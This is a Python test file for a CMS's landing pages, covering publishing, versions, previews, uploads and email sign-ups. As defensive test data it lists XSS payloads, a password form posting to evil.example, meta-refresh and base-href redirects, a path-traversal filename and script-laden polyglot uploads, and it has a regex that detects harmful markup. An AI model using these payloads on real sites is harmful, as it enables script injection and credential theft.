"""Landing pages: written, published, found, signed up on; and nothing that an author or a visitor types runs or leaks."""

import re
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import urlsplit

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select, update

from api.routers.public_pages import Maker
from db.dialect import utc_in
from db.engine import Database
from db.models import Client, ClientListMember, ConsentChange, Page, SignUp, Unsubscribed
from db.queries.suppressions import SuppressionChange, apply_suppressions
from db.states import Channel, Consent, MailState, PageFormat, SignUpState, SuppressionReason
from settings import get_settings
from tasks.cms import serving
from tasks.cms.content import render_body, sanitise
from tasks.cms.links import confirm_token
from tasks.cms.serving import Pages
from tasks.cms.sign_ups import expire_old, send_confirmations
from tasks.cms.utm import Utm
from tasks.cms.views import ViewCounter
from tasks.providers.outcomes import Accepted, NotTaken, Unknown
from tasks.providers.sendgrid import SendGridMessenger
from tasks.signing import secret_key
from tests.integration.api.answers import created, fields_of, problem_of, walk

FORM = {
    "consent_text": "Send me offers of the shop by email.",
    "from_email": "shop@example.com",
    "fields": [{"name": "first_name", "label": "First name"}],
}
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)


@pytest.fixture
def site(api: TestClient, database: Database, monkeypatch: pytest.MonkeyPatch) -> TestClient:
    """The API, whose pages are those of the test's database, looked up at each view."""
    monkeypatch.setattr(serving, "LOOK_SECONDS", -1.0)
    app: Any = api.app
    pages = Pages(database, get_settings().public_url, Maker(get_settings()))
    monkeypatch.setattr(app.state, "pages", pages)
    monkeypatch.setattr(app.state, "views", ViewCounter(database))
    return api


def test_of_many_who_come_at_once_one_looks_and_the_others_see_what_is_known(
    site: TestClient, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    publish(site)
    pages = Pages(database, "https://shop.example.com", Maker(get_settings()))
    assert [pages.is_fresh("spring") for _ in range(2)] == [False, False]
    live = pages.find("spring")
    assert [pages.is_fresh("spring") for _ in range(3)] == [False, True, True]
    assert pages.known("spring") == live
    pages.find("spring")
    assert pages.is_fresh("spring") is False
    # A database that does not answer: nobody is shown for long what may be over.
    monkeypatch.setattr(serving, "STALE_SECONDS", -1.0)
    assert pages.is_fresh("spring") is False


def test_a_page_that_is_deleted_takes_no_counts_of_others_with_it(
    site: TestClient, database: Database
) -> None:
    kept, gone = (publish(site, slug=slug)["id"] for slug in ("kept", "gone"))
    views = ViewCounter(database)
    for page_id in (kept, gone):
        views.count(page_id, Utm())
    assert site.delete(f"/api/cms/pages/{gone}").status_code == 204
    views.flush()
    assert site.get(f"/api/cms/pages/{kept}/statistics").json()["views"] == 1


@pytest.mark.parametrize("charset", ["utf-7", "undefined", "unicode_escape"])
def test_a_form_in_an_odd_charset_is_no_error_of_ours(site: TestClient, charset: str) -> None:
    publish(site, form=FORM)
    value = {"utf-7": "+2AA-", "undefined": "x", "unicode_escape": "\\ud800"}[charset]
    body = f'--x\r\nContent-Disposition: form-data; name="email"\r\n\r\n{value}\r\n--x--\r\n'
    headers = {"Content-Type": f"multipart/form-data; boundary=x; charset={charset}"}
    assert site.post("/p/spring/sign-up", content=body.encode(), headers=headers).status_code == 422


def test_a_name_too_long_for_a_client_is_cut(site: TestClient, database: Database) -> None:
    publish(site, form=FORM | {"fields": [{"name": "first_name", "label": "First name"}]})
    fill_in(site, first_name="x" * 300)
    assert the(database, SignUp).given == {"first_name": "x" * 100}


def publish(site: TestClient, **values: Any) -> dict[str, Any]:
    page = created(
        site, "/api/cms/pages", **{"slug": "spring", "title": "Spring", "source": "# Hello"} | values
    )
    answer = site.post(f"/api/cms/pages/{page['id']}/publish")
    assert answer.status_code == 200, answer.text
    document: dict[str, Any] = answer.json()
    return document


def test_a_draft_is_seen_by_nobody_and_a_published_page_by_everybody(
    site: TestClient, anonymous: TestClient
) -> None:
    page = created(
        site,
        "/api/cms/pages",
        slug="spring",
        title="Spring sale",
        source="# {{ page.title }}\n\nAll *April*.",
    )
    assert (page["state"], page["html"]) == ("draft", "<h1>Spring sale</h1>\n<p>All <em>April</em>.</p>\n")
    assert site.get("/p/spring").status_code == 404
    assert site.post(f"/api/cms/pages/{page['id']}/publish").json()["state"] == "published"
    shown = site.get("/p/spring", headers={"Authorization": ""})
    assert shown.status_code == 200
    assert "<h1>Spring sale</h1>" in shown.text
    assert "<script" not in shown.text
    assert "default-src 'none'" in shown.headers["Content-Security-Policy"]
    site.post(f"/api/cms/pages/{page['id']}/unpublish")
    assert site.get("/p/spring").status_code == 404


def test_a_change_is_a_version_that_is_seen_when_it_is_published(site: TestClient) -> None:
    page = publish(site)
    path = f"/api/cms/pages/{page['id']}"
    changed = site.patch(path, json={"source": "# Changed"}).json()
    assert (changed["current_version"], changed["live_version"]) == (2, 1)
    assert "Hello" in site.get("/p/spring").text
    site.post(f"{path}/publish")
    assert "Changed" in site.get("/p/spring").text
    rolled = site.post(f"{path}/rollback", json={"version": 1}).json()
    assert (rolled["current_version"], rolled["source"]) == (3, "# Hello")
    assert [each["version"] for each in walk(site, f"{path}/versions")] == [3, 2, 1]
    assert site.get(f"{path}/versions/2").json()["source"] == "# Changed"
    problem_of(site.get(f"{path}/versions/9"), 404)
    # Nothing new is no new version.
    assert site.patch(path, json={"title": "Spring"}).json()["current_version"] == 3


def test_a_page_is_published_at_its_moment_without_anybody_doing_anything(
    site: TestClient, database: Database
) -> None:
    page = publish(site)
    path = f"/api/cms/pages/{page['id']}"
    site.patch(path, json={"source": "# Later"})
    soon = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    planned = site.post(f"{path}/publish", json={"at": soon}).json()
    assert (planned["state"], planned["live_version"], planned["scheduled_version"]) == ("published", 1, 2)
    assert "Hello" in site.get("/p/spring").text
    database.run(lambda s: s.execute(update(Page).values(scheduled_at=utc_in(-1))))
    assert "Later" in site.get("/p/spring").text
    assert site.get(path).json()["live_version"] == 2
    past = {"at": "2020-01-01T00:00:00Z"}
    assert "past" in fields_of(site.post(f"{path}/publish", json=past))["body.at"]


def test_an_old_slug_leads_to_the_new_one_and_nowhere_else(site: TestClient) -> None:
    page = publish(site)
    path = f"/api/cms/pages/{page['id']}"
    site.patch(path, json={"slug": "summer"})
    site.patch(path, json={"slug": "autumn"})
    for old in ("spring", "summer"):
        moved = site.get(f"/p/{old}?utm_source=x", follow_redirects=False)
        assert (moved.status_code, moved.headers["Location"]) == (301, "/p/autumn?utm_source=x")
    problem_of(site.post("/api/cms/pages", json={"slug": "spring", "title": "Other"}), 409)
    back = site.patch(path, json={"slug": "spring"})
    assert back.json()["slug"] == "spring"
    assert site.get("/p/spring", follow_redirects=False).status_code == 200
    assert site.get("/p/autumn", follow_redirects=False).headers["Location"] == "/p/spring"


@pytest.mark.parametrize(
    "slug", ["", "A", "a b", "-a", "a-", "a--b", "../x", "a/b", "ä", "x" * 101, "preview/x"]
)
def test_a_slug_is_plain(api: TestClient, slug: str) -> None:
    assert "body.slug" in fields_of(api.post("/api/cms/pages", json={"slug": slug, "title": "T"}))


def test_a_preview_needs_no_login_but_its_link(site: TestClient) -> None:
    page = created(site, "/api/cms/pages", slug="spring", title="Spring", source="# Draft")
    link = site.post(f"/api/cms/pages/{page['id']}/preview-link").json()["url"]
    path = urlsplit(link).path
    shown = site.get(path, headers={"Authorization": ""})
    assert "# Draft" not in shown.text
    assert "<h1>Draft</h1>" in shown.text
    assert (shown.headers["Cache-Control"], shown.headers["X-Robots-Tag"]) == ("no-store", "noindex")
    assert site.get(path[:-1] + ("0" if path[-1] != "0" else "1")).status_code == 404


def test_caches_are_told_what_they_may_keep(site: TestClient) -> None:
    publish(site)
    shown = site.get("/p/spring")
    assert "max-age=60" in shown.headers["Cache-Control"]
    again = site.get("/p/spring", headers={"If-None-Match": shown.headers["ETag"]})
    assert (again.status_code, again.content) == (304, b"")
    head = site.head("/p/spring")
    assert (head.status_code, head.content) == (200, b"")


def test_search_engines_find_what_they_may(site: TestClient) -> None:
    publish(site, seo={"description": 'Ten "per cent"', "og_image": "https://img.example/a.png"})
    publish(site, slug="hidden", seo={"robots": "noindex"})
    created(site, "/api/cms/pages", slug="draft", title="Draft")
    shown = site.get("/p/spring").text
    assert '<meta name="description" content="Ten &quot;per cent&quot;">' in shown
    assert '<meta property="og:image" content="https://img.example/a.png">' in shown
    assert re.search(r'<link rel="canonical" href="http://[^"]+/p/spring">', shown)
    sitemap = site.get("/sitemap.xml").text
    assert "/p/spring<" in sitemap
    assert "hidden" not in sitemap
    assert "draft" not in sitemap
    assert "Sitemap: http" in site.get("/robots.txt").text
    bad = site.post(
        "/api/cms/pages", json={"slug": "x", "title": "X", "seo": {"canonical": "javascript:alert(1)"}}
    )
    assert "body.seo.canonical" in fields_of(bad)


def test_what_a_page_reads_is_its_own(api: TestClient) -> None:
    body = {"slug": "x", "title": "X", "source": "# Hi\n{{ client.email }}"}
    (problem,) = problem_of(api.post("/api/cms/pages", json=body), 422)["errors"]
    assert (problem["field"], problem["line"]) == ("body.source", 2)
    loop = {"slug": "x", "title": "X", "source": "{% for a in (1..9999999) %}x{% endfor %}"}
    assert "body.source" in fields_of(api.post("/api/cms/pages", json=loop))


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<object data=x></object><embed src=x>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1)) ![x](data:text/html,x)",
    "<<script>script>alert(1)<</script>/script>",
]
_HARMFUL = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|meta|base|style|svg|math|template|link)\b|\son\w+\s*=|"
    r"(href|src)\s*=\s*[\"']?\s*(javascript|data|vbscript):|\sstyle\s*=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("kind", list(PageFormat))
def test_nothing_that_is_written_runs(attack: str, kind: PageFormat) -> None:
    shown = render_body(attack, kind, {})
    assert isinstance(shown, str)
    assert not _HARMFUL.search(re.sub(r"&lt;.*?&gt;", "", shown)), shown


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<b>", "</p>", "<a title='", "text", "-->", "<!--", "'>", "<table><td>"]),
        max_size=6,
    )
)
def test_what_is_sanitised_stays_as_it_is(parts: list[str]) -> None:
    once = sanitise("".join(parts))
    assert sanitise(once) == once
    assert not _HARMFUL.search(re.sub(r'"[^"]*"', '""', once)), once


def test_a_stored_page_that_was_changed_behind_our_back_is_sanitised_when_it_is_shown(
    site: TestClient, database: Database
) -> None:
    from db.models import PageVersion

    publish(site, format="html", source="<p>Hello</p>")
    evil = b"<p>x</p><script>alert(1)</script>"
    database.run(lambda s: s.execute(update(PageVersion).values(source=evil, html=evil)))
    assert "alert" not in site.get("/p/spring").text


# --- Files


def upload(api: TestClient, name: str, content: bytes) -> Any:
    return api.post("/api/cms/assets", files={"file": (name, content)})


def test_a_picture_is_shown_under_a_name_of_ours(api: TestClient) -> None:
    asset = upload(api, "../../etc/pass wd.png", PNG).json()
    assert re.fullmatch(r"[0-9a-f]{32}\.png", asset["name"])
    assert asset["title"] == "pass wd.png"
    shown = api.get(f"/assets/{asset['name']}", headers={"Authorization": ""})
    assert (shown.content, shown.headers["Content-Type"]) == (PNG, "image/png")
    assert "immutable" in shown.headers["Cache-Control"]
    assert shown.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in shown.headers["Content-Security-Policy"]
    assert "Content-Disposition" not in shown.headers
    assert (
        api.get(f"/assets/{asset['name']}", headers={"If-None-Match": shown.headers["ETag"]}).status_code
        == 304
    )
    assert api.delete(f"/api/cms/assets/{asset['id']}").status_code == 204
    assert api.get(f"/assets/{asset['name']}").status_code == 404


def test_what_could_hold_a_script_is_downloaded(api: TestClient) -> None:
    svg = upload(api, "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>').json()
    shown = api.get(f"/assets/{svg['name']}")
    assert shown.headers["Content-Disposition"] == "attachment; filename*=UTF-8''logo.svg"
    text = upload(api, "a.txt", b"plain words").json()
    assert api.get(f"/assets/{text['name']}").headers["Content-Disposition"].startswith("attachment")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.png", b"<html><script>alert(1)</script>"),
        ("a.txt", b"<script>alert(1)</script>"),
        ("a.html", b"<!doctype html><p>x"),
        ("a.png", b"GIF89a" + bytes(50)),
        ("a.exe", b"MZ" + bytes(100)),
        ("a.png", b""),
        ("a.svg", b"<html><svg></svg></html>"),
        ("a.gif", b"GIF89a/*<script>alert(1)</script>*/" + bytes(20)),
        ("a.txt", b"\x00\x01\x02"),
        ("a.html", PNG),
    ],
)
def test_a_file_that_is_not_what_it_says_is_refused(api: TestClient, name: str, content: bytes) -> None:
    assert "body.file" in fields_of(upload(api, name, content))


def test_a_file_has_a_largest_size(api: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ICS_MAX_ASSET_BYTES", "1024")
    get_settings.cache_clear()
    problem_of(upload(api, "a.png", PNG + bytes(2000)), 413)


# --- Sign-ups


class Post:
    """What the provider was asked to send, and its answer."""

    def __init__(self) -> None:
        self.bodies: list[bytes] = []
        self.outcome: Any = Accepted("x")

    def send(self, body: bytes, **_: Any) -> Any:
        self.bodies.append(body)
        return self.outcome


@pytest.fixture
def post(monkeypatch: pytest.MonkeyPatch) -> Post:
    found = Post()
    monkeypatch.setenv("SENDGRID_API_KEY", "SG.tests")
    get_settings.cache_clear()
    monkeypatch.setattr(SendGridMessenger, "send", lambda _self, body, **more: found.send(body, **more))
    return found


def fill_in(site: TestClient, slug: str = "spring", **values: str) -> Any:
    form = {"email": "ada@example.com", "consent": "yes"} | values
    return site.post(f"/p/{slug}/sign-up", data=form, headers={"Authorization": ""}, follow_redirects=False)


def the(database: Database, model: type[Any]) -> Any:
    with database.reading() as s:
        return s.scalars(select(model)).one_or_none()


def confirm_path(database: Database) -> str:
    return f"/p/confirm/{confirm_token(secret_key(get_settings()), the(database, SignUp).id)}"


def test_who_signs_up_becomes_a_client_with_one_click_in_a_mail(
    site: TestClient, database: Database, post: Post
) -> None:
    vips = created(site, "/api/client-lists", name="VIP", kind="static")["id"]
    page = publish(site, form=FORM | {"client_list_id": vips})
    answer = fill_in(site, first_name="Ada", utm_source="letter", utm_campaign="may")
    assert (answer.status_code, answer.headers["Location"]) == (303, "/p/spring/thank-you")
    assert "mailbox" in site.get("/p/spring/thank-you").text
    assert the(database, Client) is None
    (body,) = post.bodies
    assert b"ada@example.com" in body
    path = re.search(rb"(/p/confirm/[0-9a-f.-]+)", body)
    assert path is not None
    link = path[1].decode()
    # A scanner opens the link: nothing happens.
    assert "<button>" in site.get(link).text
    assert the(database, Client) is None
    for _ in range(2):
        assert "signed up" in site.post(link, headers={"Authorization": ""}).text
    client = the(database, Client)
    assert (client.email, client.first_name, client.email_consent) == (
        "ada@example.com",
        "Ada",
        Consent.GRANTED,
    )
    logged = the(database, ConsentChange)
    assert (logged.source, logged.wording) == ("sign-up form", FORM["consent_text"])
    assert the(database, ClientListMember).client_id == client.id
    row = the(database, SignUp)
    assert (row.state, row.email, row.given, row.client_id) == (SignUpState.CONFIRMED, None, {}, client.id)
    counts = site.get(f"/api/cms/pages/{page['id']}/statistics").json()
    assert (counts["sign_ups"], counts["conversions"]) == (1, 1)
    (origin,) = counts["origins"]
    assert (origin["source"], origin["campaign"], origin["conversions"]) == ("letter", "may", 1)


def test_a_visitor_changes_nothing_that_is_known_of_somebody(
    site: TestClient, database: Database, post: Post
) -> None:
    created(site, "/api/clients", email="ada@example.com", first_name="Ada", email_consent="denied")
    publish(site, form=FORM | {"fields": [*FORM["fields"], {"name": "last_name", "label": "Name"}]})
    first = fill_in(site, first_name="Mallory", last_name="Byron")
    unknown = fill_in(site, email="eve@example.com")
    assert (first.status_code, first.headers["Location"]) == (
        unknown.status_code,
        unknown.headers["Location"],
    )
    with database.reading() as s:
        sign_up = s.scalars(select(SignUp).order_by(SignUp.id)).first()
        assert sign_up is not None
        link = f"/p/confirm/{confirm_token(secret_key(get_settings()), sign_up.id)}"
    site.post(link)
    client = the(database, Client)
    assert (client.first_name, client.last_name, client.email_consent) == ("Ada", "Byron", Consent.GRANTED)


def test_the_form_says_what_is_missing_and_keeps_what_was_typed(site: TestClient, database: Database) -> None:
    publish(site, form=FORM | {"fields": [{"name": "phone", "label": "Phone", "required": True}]})
    answer = site.post("/p/spring/sign-up", data={"email": '"><b>x', "phone": "1", "utm_source": 'a"b'})
    assert answer.status_code == 422
    assert "Please give an email address" in answer.text
    assert "Please give a phone number" in answer.text
    assert "Please tick" in answer.text
    assert 'value="a&quot;b"' in answer.text
    assert 'value="&quot;&gt;&lt;b&gt;x"' in answer.text
    assert "<b>x" not in answer.text
    assert answer.headers["cache-control"] == "no-store"
    assert " checked" not in answer.text
    assert " checked" in site.post("/p/spring/sign-up", data={"consent": "yes"}).text
    assert the(database, SignUp) is None


def test_programs_that_fill_in_everything_get_nothing(
    site: TestClient, database: Database, post: Post
) -> None:
    publish(site, form=FORM)
    assert fill_in(site, website="https://spam.example").status_code == 303
    assert the(database, SignUp) is None


def test_nobodys_mailbox_is_filled_by_somebody_elses_typing(site: TestClient, post: Post) -> None:
    publish(site, form=FORM)
    answers = [fill_in(site) for _ in range(6)]
    assert {answer.status_code for answer in answers} == {303}
    assert len(post.bodies) == 3


@pytest.mark.parametrize("reason", [SuppressionReason.BOUNCE, SuppressionReason.SPAM_REPORT])
def test_no_mail_goes_to_an_address_that_must_not_be_written_to(
    site: TestClient, database: Database, post: Post, reason: SuppressionReason
) -> None:
    change = SuppressionChange(Channel.EMAIL, "ada@example.com", reason, datetime.now(UTC), "test")
    database.run(lambda s: apply_suppressions(s, [change]))
    publish(site, form=FORM)
    assert fill_in(site).status_code == 303
    assert (post.bodies, the(database, SignUp).mail) == ([], MailState.HELD)


def test_who_unsubscribed_and_confirms_again_is_written_to_again(
    site: TestClient, database: Database, post: Post
) -> None:
    said = SuppressionChange(
        Channel.EMAIL, "ada@example.com", SuppressionReason.ONE_CLICK, datetime.now(UTC), "test"
    )
    database.run(lambda s: apply_suppressions(s, [said]))
    publish(site, form=FORM)
    fill_in(site)
    assert the(database, Unsubscribed).active is True
    site.post(confirm_path(database))
    assert the(database, Unsubscribed).active is False


def test_a_mail_that_may_have_gone_out_is_not_sent_again_and_one_that_has_not_is(
    site: TestClient, database: Database, post: Post
) -> None:
    publish(site, form=FORM)
    post.outcome = NotTaken("no connection")
    fill_in(site)
    assert the(database, SignUp).mail is MailState.QUEUED
    database.run(lambda s: s.execute(update(SignUp).values(tried_at=utc_in(-61))))
    post.outcome = Unknown("reset")
    send_confirmations(database, get_settings())
    assert the(database, SignUp).mail is MailState.SENDING
    database.run(lambda s: s.execute(update(SignUp).values(tried_at=utc_in(-9999))))
    assert send_confirmations(database, get_settings()) == 0
    assert len(post.bodies) == 2


def test_what_nobody_confirms_is_forgotten(site: TestClient, database: Database, post: Post) -> None:
    publish(site, form=FORM)
    fill_in(site, first_name="Ada")
    link = confirm_path(database)
    database.run(lambda s: s.execute(update(SignUp).values(created_at=utc_in(-8 * 86400))))
    assert expire_old(database) == 1
    row = the(database, SignUp)
    assert (row.state, row.email, row.given) == (SignUpState.EXPIRED, None, {})
    assert site.post(link).status_code == 404
    assert the(database, Client) is None


def test_a_link_that_is_not_ours_confirms_nothing(site: TestClient, database: Database, post: Post) -> None:
    publish(site, form=FORM)
    fill_in(site)
    link = confirm_path(database)
    for forged in (
        link[:-1] + ("0" if link[-1] != "0" else "1"),
        "/p/confirm/1-0-9999999999." + "0" * 32,
        "/p/confirm/x",
    ):
        assert site.post(forged).status_code == 404
    assert the(database, Client) is None


@pytest.mark.parametrize("path", ["/p/confirm/x", "/p/preview/x", "/p/nothing/thank-you", "/unsubscribe/x"])
def test_who_follows_a_broken_link_reads_a_page_and_programs_a_problem(site: TestClient, path: str) -> None:
    answer = site.get(path, headers={"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"})
    assert (answer.status_code, answer.headers["content-type"]) == (404, "text/html; charset=utf-8")
    assert "This link does not work" in answer.text
    assert answer.headers["cache-control"] == "no-store"
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    problem_of(site.get(path), 404)


def test_views_are_counted_by_origin(site: TestClient, database: Database) -> None:
    page = publish(site, form=FORM)
    for _ in range(3):
        site.get("/p/spring?utm_source=letter")
    site.get("/p/spring")
    site.head("/p/spring")
    app: Any = site.app
    app.state.views.flush()
    app.state.views.flush()
    counts = site.get(f"/api/cms/pages/{page['id']}/statistics").json()
    assert counts["views"] == 4
    assert {(each["source"], each["views"]) for each in counts["origins"]} == {("letter", 3), ("", 1)}


def test_who_invents_origins_fills_no_table(site: TestClient, database: Database) -> None:
    page = publish(site)
    for number in range(250):
        site.get(f"/p/spring?utm_source=s{number}")
    app: Any = site.app
    app.state.views.flush()
    counts = site.get(f"/api/cms/pages/{page['id']}/statistics").json()
    assert counts["views"] == 250
    assert len(counts["origins"]) == 201


def test_a_form_asks_only_for_what_there_is(api: TestClient) -> None:
    created(api, "/api/custom-fields", key="age", label="Age", kind="number")
    for name, words in (("custom.nothing", "no custom field"), ("custom.age", "no text")):
        body = {"slug": "x", "title": "X", "form": FORM | {"fields": [{"name": name, "label": "L"}]}}
        assert words in fields_of(api.post("/api/cms/pages", json=body))["body.form.fields.0.name"]
    problem_of(
        api.post("/api/cms/pages", json={"slug": "x", "title": "X", "form": FORM | {"client_list_id": 99}}),
        404,
    )


def test_a_person_gets_what_was_typed_with_his_address_and_it_is_erased_with_him(
    site: TestClient, database: Database, post: Post
) -> None:
    client_id = created(site, "/api/clients", email="ada@example.com")["id"]
    publish(site, form=FORM)
    fill_in(site, first_name="Ada")
    (row,) = site.get(f"/api/clients/{client_id}/export").json()["sign_ups"]
    assert (row["email"], row["given"]) == ("ada@example.com", {"first_name": "Ada"})
    link = confirm_path(database)
    erased = site.post(f"/api/clients/{client_id}/erase", json={"confirm": "ada@example.com"})
    assert erased.status_code == 200, erased.text
    left = the(database, SignUp)
    assert (left.state, left.email, left.given) == (SignUpState.EXPIRED, None, {})
    assert site.post(link).status_code == 404
    assert the(database, Client) is None
